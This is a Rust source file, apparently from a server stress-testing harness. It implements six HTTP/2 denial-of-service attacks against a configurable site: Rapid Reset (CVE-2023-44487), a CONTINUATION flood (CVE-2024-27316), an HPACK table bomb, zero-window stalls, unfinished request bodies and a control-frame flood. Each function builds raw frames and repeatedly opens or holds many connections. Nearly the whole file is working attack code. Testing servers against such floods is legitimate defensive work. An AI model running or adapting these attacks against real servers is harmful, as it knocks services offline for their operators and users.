//! Attacks by frames of HTTP/2. Each stays within the protocol as far as one frame can tell.

use super::Stage;
use super::horde::Horde;
use larder_wire::h2::ErrorCode;
use larder_wire::h2::PREFACE;
use larder_wire::h2::frame::{self, Settings};
use larder_wire::h2::hpack;
use std::time::Duration;

/// Streams that a connection may have open.
const STREAMS: u32 = 100;
/// So many streams that wait may take as much memory as a connection.
const STREAMS_OF_CONNECTION: usize = 10;
/// A field block in a frame of its own is at most so long.
const PAYLOAD_BYTES: u32 = 16_384;
/// Connections of the attacks that make work instead of holding memory.
const FEW: usize = 16;

fn preface(settings: &Settings) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    frame::write_settings(&mut out, settings);
    out
}

fn block(path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [(":method", "GET"), (":scheme", "http"), (":authority", "www.test"), (":path", path)] {
        hpack::write_field(&mut block, name.as_bytes(), value.as_bytes(), false);
    }
    block
}

/// The numbers of so many streams of a client.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Opens connections as fast as the server closes them, each with all of `words` at once.
fn again_and_again(stage: &Stage, words: &[u8]) -> usize {
    let mut horde = Horde::at(stage.site);
    while stage.goes_on() {
        horde.fill(FEW, |_| words.to_vec());
        horde.hear();
        std::thread::sleep(Duration::from_micros(200));
    }
    FEW
}

fn held(stage: &Stage, words: &[u8], then: &[u8]) -> usize {
    let mut horde = Horde::at(stage.site);
    let mut most = 0;
    while stage.goes_on() {
        horde.fill(stage.connections, |_| words.to_vec());
        most = most.max(horde.all.len());
        horde.say(then);
        std::thread::sleep(Duration::from_millis(100));
    }
    most
}

/// Requests for what only the origin has, each reset in the same write (CVE-2023-44487).
pub fn rapid_resets(stage: &Stage) -> usize {
    let mut words = preface(&Settings::default());
    for stream in streams(1_000) {
        frame::write_block(&mut words, stream, &block(&format!("/hang/{stream}")), true, PAYLOAD_BYTES);
        frame::write_reset(&mut words, stream, ErrorCode::Cancel);
    }
    again_and_again(stage, &words)
}

/// Field blocks just below what they may have, and never their ends (CVE-2024-27316 and its like).
pub fn continuations(stage: &Stage) -> usize {
    const HEADERS: [u8; 2] = [1, 1];
    const CONTINUATION: [u8; 2] = [9, 0];
    let mut words = preface(&Settings::default());
    for (number, [kind, flags]) in std::iter::once(HEADERS).chain([CONTINUATION; 14]).enumerate() {
        words.extend_from_slice(&[0, 0x0f, 0xa0, kind, flags, 0, 0, 0, 1]);
        words.resize(words.len() + 0xfa0, b'a' + number as u8);
    }
    held(stage, &words, &[0, 0, 0, CONTINUATION[0], 0, 0, 0, 0, 1])
}

/// One long field in the table, and thousands of references to it in each block.
pub fn table_bombs(stage: &Stage) -> usize {
    const FIELD_BYTES: usize = 4_000;
    const REFERENCES: usize = 12_000;
    let mut bomb = block("/hit");
    // A literal with indexing: the name `x`, and a length in the continued form of RFC 7541 section 5.1.
    bomb.extend_from_slice(b"\x40\x01x\x7f");
    let rest = FIELD_BYTES - 127;
    bomb.extend_from_slice(&[0x80 | (rest & 127) as u8, (rest >> 7) as u8]);
    bomb.resize(bomb.len() + FIELD_BYTES, b'b');
    // The newest entry of the table has the number behind the 61 that stand always.
    bomb.resize(bomb.len() + REFERENCES, 0x80 | 62);
    let mut words = preface(&Settings::default());
    streams(30).for_each(|stream| frame::write_block(&mut words, stream, &bomb, true, PAYLOAD_BYTES));
    again_and_again(stage, &words)
}

/// Connections that ask for a hundred large hits each and open no window for them.
pub fn closed_windows(stage: &Stage) -> usize {
    let mut words = preface(&Settings { window: Some(0), ..Settings::default() });
    streams(STREAMS).for_each(|stream| frame::write_block(&mut words, stream, &block("/big"), true, PAYLOAD_BYTES));
    held(stage, &words, b"") * (1 + STREAMS as usize / STREAMS_OF_CONNECTION)
}

/// Bodies that do not come to their ends, a hundred on each connection.
pub fn held_bodies(stage: &Stage) -> usize {
    let mut words = preface(&Settings::default());
    for stream in streams(STREAMS) {
        let mut head = Vec::new();
        for (name, value) in [(":method", "POST"), (":scheme", "http"), (":authority", "www.test"), (":path", "/hang")]
        {
            hpack::write_field(&mut head, name.as_bytes(), value.as_bytes(), false);
        }
        frame::write_block(&mut words, stream, &head, false, PAYLOAD_BYTES);
        frame::write_data_head(&mut words, stream, 1, false);
        words.push(b'x');
    }
    held(stage, &words, b"") * (1 + STREAMS as usize / STREAMS_OF_CONNECTION)
}

/// Small frames that mean nothing, as fast as they are read.
pub fn control_frames(stage: &Stage) -> usize {
    let mut words = preface(&Settings::default());
    for _ in 0..2_000 {
        frame::write_ping(&mut words, *b"roundtri");
        frame::write_settings(&mut words, &Settings::default());
    }
    again_and_again(stage, &words)
}
